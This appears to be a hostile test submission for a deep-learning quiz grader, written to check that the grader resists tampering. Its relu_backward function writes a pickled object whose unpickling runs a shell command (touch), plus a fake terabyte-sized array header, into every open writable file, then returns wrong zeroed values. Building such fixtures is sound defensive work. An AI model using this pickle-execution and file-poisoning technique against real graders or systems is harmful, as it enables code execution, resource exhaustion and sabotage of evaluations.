"""Hostile: writes a pickled object array (whose unpickling would create a file) and a record claiming
a terabyte-sized array into every writable regular file it holds open (the output files), then
returns wrong values. The grader must never unpickle or allocate it."""
import os
import pickle
import stat
import struct

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/dlquiz-pwned-pickle",))


def _record(name, header, data):
    encoded = name.encode()
    return struct.pack("<H", len(encoded)) + encoded + header + data


def _npy_header(descr, shape):
    text = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    text += b" " * (63 - (len(text) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text


def _poison():
    huge = _record("v0.0__o0", _npy_header("<f8", (10 ** 12,)), b"")
    pickled = _record("v0.0__o0", _npy_header("|O", (1,)), pickle.dumps(np.array([Payload()], dtype=object)))
    for fd in range(3, 64):
        try:
            if stat.S_ISREG(os.fstat(fd).st_mode):
                os.write(fd, huge + pickled)
        except OSError:
            pass


def relu_backward(dz, z):
    _poison()
    return dz * 0
